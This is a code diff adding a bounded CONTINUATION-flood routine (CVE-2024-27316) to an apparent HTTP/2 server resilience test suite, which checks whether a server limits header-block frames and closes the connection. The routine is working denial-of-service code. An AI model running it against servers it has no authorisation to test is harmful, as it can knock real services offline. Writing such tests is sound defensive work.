@@ -3,6 +3,7 @@
 // first bytes of a connection, and the rapid reset. Every loop is bounded by time and by count.
 import {
   clientPreface,
+  continuation,
   deadline,
   FRAME,
   headersFrame,
@@ -244,4 +245,42 @@ export async function churn(
   };
   await Promise.all(Array.from({ length: o.conns }, loop));
   return { attempts, up, notUpWithin2s: failed };
+}
+
+/** CONTINUATION flood (CVE-2024-27316 and its kin): a HEADERS frame that does not end its field block, then empty
+ *  CONTINUATION frames, `batch` per write, never END_HEADERS; a connection the server ends is replaced. What it checks:
+ *  the server bounds the frames of one field block (and what it keeps of them) and ends the connection. */
+export async function continuationFlood(
+  open: () => Conn,
+  first: (i: number) => Buffer,
+  o: { batch: number; maxFrames: number; durationMs: number; maxConns: number; gapMs: number },
+): Promise<Summary> {
+  const done = deadline(o.durationMs);
+  const all: Conn[] = [];
+  let frames = 0;
+  const empties = Buffer.concat(Array.from({ length: o.batch }, () => continuation(1, Buffer.alloc(0), 0)));
+  while (!done() && frames < o.maxFrames && all.length < o.maxConns) {
+    const c = open();
+    all.push(c);
+    if (!(await Promise.race([c.ready, sleep(5000).then(() => false)]))) {
+      c.destroy();
+      await sleep(100);
+      continue;
+    }
+    c.socket.write(Buffer.concat([clientPreface(), SETTINGS_ACK, first(all.length)]));
+    while (!done() && frames < o.maxFrames && c.frames.goaway === null && (await writeBounded(c, empties, 500))) {
+      frames += o.batch;
+      await sleep(o.gapMs);
+    }
+    await Promise.race([c.closed, sleep(300)]);
+    c.destroy();
+  }
+  const closed = all.filter((c) => c.closedByServer());
+  return {
+    connections: all.length,
+    continuationFrames: frames,
+    closedByServer: closed.length,
+    goawayCodes: [...new Set(all.map((c) => c.frames.goaway).filter((g) => g !== null))].join(",") || "none",
+    medianLifeMsClosedByServer: Math.round(median(closed.map((c) => c.lifetime()))),
+  };
 }
